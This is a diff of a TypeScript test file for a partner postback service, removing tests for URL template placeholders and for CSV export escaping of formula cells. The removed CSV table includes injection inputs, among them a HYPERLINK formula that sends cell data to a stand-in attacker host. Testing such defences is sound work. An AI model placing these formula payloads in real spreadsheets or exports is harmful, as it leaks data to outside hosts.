@@ -2,74 +2,10 @@ import { Code, ConnectError } from "@connectrpc/connect";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { EventKind, HttpMethod } from "../../gen/funnel/postback/v1/partner_pb.js";
 import type { App } from "../../services/app.js";
-import { formatCsv, parseCsv } from "../../services/postback/csv.js";
-import { parseTemplate, renderTemplate, SAMPLE_VALUES, TemplateError } from "../../services/postback/template.js";
 import { at, postbackClients, seedTemplate, testPartner, type PostbackClients } from "../support/postback-clients.js";
 import { startTestApp } from "../support/stores.js";
 
 const failure = (promise: Promise<unknown>) => promise.then(() => undefined, (e: unknown) => ConnectError.from(e));
-
-describe("templates", () => {
-  it("reports unknown placeholders and unterminated braces with their position", () => {
-    const error = (source: string) => {
-      try {
-        parseTemplate(source);
-      } catch (e) {
-        return e instanceof TemplateError ? `${e.position}: ${e.reason}` : String(e);
-      }
-      return "parsed";
-    };
-    expect(error("https://x/?u={userId}")).toBe("14: unknown placeholder {userId} (did you mean {userID}?)");
-    expect(error("https://x/?a={stag_clickID")).toBe('14: unterminated placeholder "{stag_clickID": expected "}" at position 27');
-    expect(error("https://x/{bogus}")).toMatch(/^11: unknown placeholder \{bogus\}; known: \{stag\}, /);
-    expect(error('{"a":{stag},"b":[{"c":1}]}')).toBe("parsed");
-  });
-
-  it("renders literal braces, {{ and every placeholder", () => {
-    const template = parseTemplate("{{stag}={stag}|{stag_partnerId}|{stag_clickID}|{userID}|{deviceID}|{event}|{timestamp}|{timestamp_ms}|{delivery_id}|{params.a-b}|{params.none}");
-    expect(renderTemplate(template, { ...SAMPLE_VALUES, params: { "a-b": "x y" }, occurredAt: new Date(1_700_000_000_123) }, "url")).toBe(
-      "{stag}=PARTNER_CLICK|PARTNER|CLICK|USER|DEVICE|install|1700000000|1700000000123|00000000-0000-0000-0000-000000000000|x%20y|",
-    );
-  });
-});
-
-describe("partner CSV cells", () => {
-  // value, the cell an export writes for it. Every value reads back exactly.
-  const table: [string, string][] = [
-    ["plain", "plain"],
-    ["", ""],
-    ["=1+1", `"'=1+1"`],
-    ['=HYPERLINK("https://evil.example/?q="&A1,"open")', `"'=HYPERLINK(""https://evil.example/?q=""&A1,""open"")"`],
-    ["+1", `"'+1"`],
-    ["-5", `"'-5"`],
-    ["-", `"'-"`],
-    ["@SUM(A1)", `"'@SUM(A1)"`],
-    ["\t=1", `"'\t=1"`],
-    ["\r=1", `"'\r=1"`],
-    ["'", "'"],
-    ["'abc", "'abc"],
-    ["'=1", `"''=1"`],
-    ["''=1", `"'''=1"`],
-    ["'-5", `"''-5"`],
-    ["' =1", "' =1"],
-    ["it's", "it's"],
-    ["a=b", "a=b"],
-    ["1-2", "1-2"],
-    [" =1", '" =1"'],
-    ["=", `"'="`],
-  ];
-
-  it("writes formula cells as quoted text with one ' in front, and reads every value back exactly", () => {
-    for (const [value, cell] of table) {
-      expect(formatCsv([[value, "x"]]), JSON.stringify(value)).toBe(`${cell},x\r\n`);
-      expect(parseCsv(formatCsv([[value, "x"]]))[0]?.fields, JSON.stringify(value)).toEqual([value, "x"]);
-    }
-  });
-
-  it("removes only the guard it writes from a hand-written file", () => {
-    expect(parseCsv("'=1,'+x,'abc,''=1,'-,'\r\n")[0]?.fields).toEqual(["=1", "+x", "'abc", "'=1", "-", "'"]);
-  });
-});
 
 describe("PartnerService", () => {
   let app: App;
